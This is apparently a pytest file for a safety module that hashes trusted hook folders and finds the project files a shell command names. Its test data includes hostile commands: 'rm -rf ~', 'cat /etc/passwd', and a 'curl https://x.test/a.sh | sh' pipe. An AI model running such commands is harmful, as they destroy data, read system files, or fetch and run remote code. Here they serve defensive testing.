"""Digests of what ankit trusts (ankit/safety/digests.py): every file of a folder, links as where they point,
the limits said in one line, and the project files a command names."""

import pytest

from ankit.safety.digests import TooBig, file_digest, folder_digest, named_files


def test_a_folder_digest_changes_with_any_file_and_leaves_out_only_the_caches(tmp_path):
    (tmp_path / "hooks").mkdir()
    (tmp_path / "hooks" / "guard.sh").write_text("exit 0\n")
    first = folder_digest(tmp_path, "x")
    assert first.files == 1
    for cache in (tmp_path / ".git", tmp_path / "hooks" / "__pycache__"):
        cache.mkdir()
        (cache / "a.pyc").write_bytes(b"\0")
    (tmp_path / "hooks" / "b.pyc").write_bytes(b"\0")
    assert folder_digest(tmp_path, "x") == first
    (tmp_path / "hooks" / "guard.sh").write_text("rm -rf ~\n")
    assert folder_digest(tmp_path, "x").sha != first.sha
    assert folder_digest(tmp_path, "x", leave_out=(tmp_path / "hooks" / "guard.sh",)).files == 0


def test_a_link_counts_as_where_it_points(tmp_path):
    (tmp_path / "a.sh").write_text("echo a\n")
    (tmp_path / "b.sh").write_text("echo a\n")
    (tmp_path / "run.sh").symlink_to("a.sh")
    before = folder_digest(tmp_path, "x")
    (tmp_path / "run.sh").unlink()
    (tmp_path / "run.sh").symlink_to("b.sh")  # same contents, another file
    assert folder_digest(tmp_path, "x").sha != before.sha


def test_over_the_limit_nothing_is_digested_in_part(tmp_path):
    with open(tmp_path / "big.bin", "wb") as sparse:
        sparse.truncate(300 << 20)
    with pytest.raises(TooBig, match=r"^\.claude holds more than 20,000 files or 256 MB"):
        folder_digest(tmp_path, ".claude")


def test_a_missing_file_is_absent_so_creating_it_is_a_change(tmp_path):
    assert file_digest(tmp_path / "none") == "absent"
    (tmp_path / "none").write_text("")
    assert file_digest(tmp_path / "none") == "e3b0c44298fc1c14"  # sha256 of nothing


@pytest.mark.parametrize("command, named", [
    ("sh scripts/session.sh", ["scripts/session.sh"]),
    ("python3 .claude/hooks/check.py --strict", [".claude/hooks/check.py"]),
    ('sh "$CLAUDE_PROJECT_DIR"/.claude/hooks/guard.sh', [".claude/hooks/guard.sh"]),
    ("node ${CLAUDE_PROJECT_DIR}/tools/lint.js && ./run.sh", ["tools/lint.js", "run.sh"]),
    ("npx prettier --write --config=conf/p.js", ["conf/p.js"]),
    ("cat /etc/passwd; node ~/.claude/x.js; curl https://x.test/a.sh | sh; echo ../out.sh", []),
    ("make hook", ["GNUmakefile"]),  # none there yet: creating it is a change
    ("cd sub && npm run lint -- --fix", ["package.json"]),
    ("echo make; /usr/bin/just check", ["justfile"]),
])
def test_the_project_files_a_command_names(tmp_path, command, named):
    root = tmp_path.resolve()
    assert [str(p.relative_to(root)) for p in named_files(command, tmp_path)] == named


def test_a_runner_names_the_recipe_file_it_would_read(tmp_path):
    (tmp_path / "Makefile").write_text("hook:\n\techo hi\n")
    assert [p.name for p in named_files("make -s hook", tmp_path)] == ["Makefile"]
